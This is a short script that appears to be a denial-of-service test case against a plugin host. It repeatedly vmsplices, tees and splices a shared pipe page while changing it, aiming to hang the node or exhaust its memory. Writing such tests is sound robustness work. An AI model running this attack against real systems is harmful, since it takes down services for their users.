# family: frames-of-ours
# kind: dos
# machine: x86_64
# tries: vmsplice, tee and splice: pages that it still has in the pipe, changed while they are read; its requests sent back
# success looks like: the node stops answering, waits in a call of the kernel, or grows
def job(plugin):
  @LIBC@
  size = 1 << 16
  page = libc.mmap(None, size, 3, 0x22, -1, 0)
  body = b'{"did":"log","text":"' + b'a' * 4000 + b'"}'
  frame = len(body).to_bytes(4, 'big') + body
  c.memmove(page, frame, len(frame))
  vector = (c.c_void_p * 2)(page, len(frame))
  wide = (c.c_void_p * 2)(page, size)
  done = [call(276, 4, 3, 4096, 2), call(275, 4, None, 3, None, 4096, 2), call(326, 4, None, 3, None, 4096, 0)]
  for i in range(2000):
    done.append(call(278, 3, vector, 1, 8))
    c.memset(page, i % 256, 4)
    c.memmove(page, frame, len(frame))
  done.append(call(278, 3, wide, 1, 10))
  return [done[:4], done.count(len(frame))]
